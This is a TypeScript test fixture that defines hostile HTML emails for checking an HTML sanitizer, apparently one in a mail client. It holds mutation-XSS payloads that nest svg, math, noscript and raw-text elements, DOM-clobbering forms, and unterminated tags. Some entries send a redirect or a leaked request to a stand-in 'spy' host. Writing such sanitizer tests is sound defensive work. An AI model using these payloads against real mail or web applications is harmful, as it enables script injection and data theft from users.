import { attack, type HostileMail } from './hostile-mail.ts'

const picture = `<img src=x onerror="${attack}">`

/** Mails that change when the cleaned HTML is parsed again. */
export const mutationMails: readonly HostileMail[] = [
  {
    name: 'mutation: style in svg',
    html: () => `<svg></p><style><a id="</style>${picture.replaceAll('"', '&quot;')}">`,
  },
  {
    name: 'mutation: mglyph in math',
    html: () =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;">`,
  },
  {
    name: 'mutation: nested forms',
    html: () =>
      `<form><math><mtext></form><form><mglyph><style></math>${picture}</style></mglyph></form>`,
  },
  {
    name: 'mutation: noscript',
    html: () => `<noscript><p title="</noscript>${picture.replaceAll('"', "'")}"></noscript>`,
  },
  {
    name: 'mutation: annotation-xml',
    html: () =>
      `<math><annotation-xml encoding="text/html"><style><!--</style><img title="--></annotation-xml>${picture.replaceAll('"', '&quot;')}"></annotation-xml></math>`,
  },
  {
    name: 'mutation: elements that keep their text',
    html: () =>
      ['xmp', 'noembed', 'noframes', 'iframe', 'textarea', 'title', 'plaintext']
        .map(
          (tag) => `<div><${tag}><p id="</${tag}>${picture.replaceAll('"', "'")}"></${tag}></div>`,
        )
        .join(''),
  },
  {
    name: 'clobbered properties',
    html: () =>
      `<form id="attributes"><input name="attributes"><input name="nodeName"><input name="parentNode"><input name="removeChild">${picture}</form><img name="getElementById"><img name="currentScript"><a id="body"></a><a id="defaultView" name="documentElement"></a>`,
  },
  {
    name: 'an end before the end',
    html: (spy) =>
      `</p></div></body></html></style></head><script>${attack}</script><head><meta http-equiv="refresh" content="0;url=http://${spy}/r"></head><body onload="${attack}">После`,
  },
  { name: 'a comment without an end', html: () => `<p>До</p><!-- ${picture}` },
  { name: 'an attribute without an end', html: (spy) => `<p>До</p><img src="http://${spy}/leak?` },
  { name: 'a style without an end', html: () => `<p>До</p><style>p{color:red}${picture}` },
]
